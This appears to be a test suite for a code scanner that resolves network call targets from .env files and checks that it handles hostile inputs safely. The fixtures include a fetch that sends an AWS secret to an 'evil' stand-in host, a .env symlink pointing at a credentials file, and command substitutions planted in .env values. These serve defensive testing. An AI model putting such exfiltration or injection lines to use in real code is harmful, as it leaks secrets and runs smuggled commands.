import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { textOf, titleOf } from './badInputs';
import { callLines, callsight, DEADLINE_MS, folderWith, type Report, removeFolders, scanned } from './command';

/** Gives what a scan finds of `fetch(process.env.NAME)`, beside an environment file with that text. */
function fetched(name: string, env: string): Report {
  return scanned(folderWith({ '.env': env, 'a.ts': `fetch(process.env.${name})` }));
}

const UNRESOLVED = /^a\.ts:1:1 unresolved: \w+$/;

describe('bad environment files', function () {
  this.timeout(DEADLINE_MS);
  afterEach(removeFolders);

  for (const [id, name] of [
    ['E002', 'API'],
    ['E004', 'API_URL'],
    ['E015', 'A'],
    ['E017', 'A'],
  ] as const) {
    it(titleOf(id), () => {
      assert.deepEqual(callLines(fetched(name, textOf(id))), ['a.ts:1:1 https://a.example.com']);
    });
  }

  for (const [id, name] of [
    ['E005', 'A'],
    ['E006', 'A'],
    ['E010', 'A'],
    ['E012', 'A'],
    ['E019', 'A'],
  ] as const) {
    it(titleOf(id), () => {
      const report = fetched(name, textOf(id));
      assert.deepEqual(report.hosts, []);
      assert.equal(report.calls.length, 1);
    });
  }

  for (const [id, name] of [
    ['E008', 'constructor'],
    ['E009', '__proto__'],
  ] as const) {
    it(titleOf(id), () => {
      const folder = folderWith({
        '.env': `${textOf(id)}\nAPI=https://a.example.com`,
        'a.ts': `fetch(process.env.API);\nfetch(process.env.${name});\nfetch(process.env.toString)`,
      });
      const report = scanned(folder);
      assert.equal(callLines(report)[0], 'a.ts:1:1 https://a.example.com');
      assert.deepEqual(
        report.hosts.map(({ host }) => host),
        ['a.example.com'],
      );
    });
  }

  for (const id of ['E007', 'E029']) {
    it(titleOf(id), () => {
      const folder = folderWith({ '.env': textOf(id), 'a.ts': 'fetch(process.env.A)' });
      const { code, out, err } = callsight(['scan', folder, '--format', 'json']);
      assert.deepEqual([code, err], [0, 'callsight: .env: larger than 256 KiB; it was not read.\n']);
      assert.match(callLines(JSON.parse(out) as Report)[0] ?? '', UNRESOLVED);
    });
  }

  it(titleOf('E020'), () => {
    const home = folderWith({ credentials: 'API=https://canary.example.com' });
    const folder = folderWith({ 'a.ts': 'fetch(process.env.API)' });
    symlinkSync(join(home, 'credentials'), join(folder, '.env'));
    const report = scanned(folder);
    assert.match(callLines(report)[0] ?? '', UNRESOLVED);
    assert.ok(!JSON.stringify(report).includes('canary'));
    assert.deepEqual(report.skipped, [{ file: '.env', reason: 'a symbolic link that leads out of the folder' }]);
  });

  it(titleOf('E021'), () => {
    const folder = folderWith({ 'a.ts': 'fetch(process.env.API)' });
    mkdirSync(join(folder, '.env'));
    execFileSync('mkfifo', [join(folder, '.env.local')]);
    const report = scanned(folder);
    assert.match(callLines(report)[0] ?? '', UNRESOLVED);
    assert.deepEqual(report.skipped, [{ file: '.env.local', reason: 'not a regular file' }]);
  });

  it(titleOf('E022'), () => {
    const secret = `wJalrXUtnFEMI${'K7MDENG'.repeat(2)}bPxRfiCY`;
    const folder = folderWith({
      '.env': `AWS_SECRET_ACCESS_KEY=${secret}`,
      'a.ts': 'fetch("https://" + process.env.AWS_SECRET_ACCESS_KEY + ".evil.callsight-test.dev/")',
    });
    nowhere(folder, secret);
  });

  it(titleOf('E023'), () => {
    const folder = folderWith({ '.env': 'DB_PASSWORD=hunter2', 'a.ts': 'fetch("https://" + process.env.DB_PASSWORD)' });
    nowhere(folder, 'hunter2');
  });

  it(titleOf('E026'), () => {
    const folder = folderWith({ 'a.ts': 'fetch(process.env.HOME_ASSISTANT_URL)' });
    const report = scanned(folder, [], { environment: { HOME_ASSISTANT_URL: 'https://canary.example.com' } });
    assert.deepEqual(
      report.calls.map(({ unresolved }) => unresolved),
      [{ reason: 'environment', name: 'HOME_ASSISTANT_URL' }],
    );
  });

  it(titleOf('E027'), () => {
    const folder = folderWith({
      '.env': 'API=https://default.example.com\nTOKEN=canary-token',
      '.env.local': 'API=https://local.example.com',
      '.env.production': 'API=https://production.example.com',
      'a.ts': 'fetch(process.env.API)',
    });
    const report = scanned(folder);
    const found = report.calls[0]?.endpoints.map(({ host, environment, hops }) => [
      host,
      environment,
      hops.some(({ file }) => file.startsWith('.env')),
    ]);
    assert.deepEqual(found?.toSorted(), [
      ['default.example.com', 'default', true],
      ['local.example.com', 'local', true],
      ['production.example.com', 'production', true],
    ]);
    nowhere(folder, 'canary-token');
  });

  it('run nothing', () => {
    const trap = join(folderWith(), 'sprung');
    fetched('A', `A=\`touch ${trap}\`\nB=$(touch ${trap})`);
    assert.ok(!existsSync(trap));
  });
});

/** No report, line or error shows the secret, in no usual spelling. */
function nowhere(folder: string, secret: string): void {
  const spellings = [
    secret,
    secret.toLowerCase(),
    Buffer.from(secret).toString('base64'),
    Buffer.from(secret).toString('hex'),
  ];
  for (const format of ['text', 'json', 'html', 'sarif']) {
    const { out, err } = callsight(['scan', folder, '--format', format, '--fail-on', 'none']);
    assert.notEqual(out, '');
    for (const spelling of spellings) assert.ok(!`${out}${err}`.toLowerCase().includes(spelling.toLowerCase()), format);
  }
}
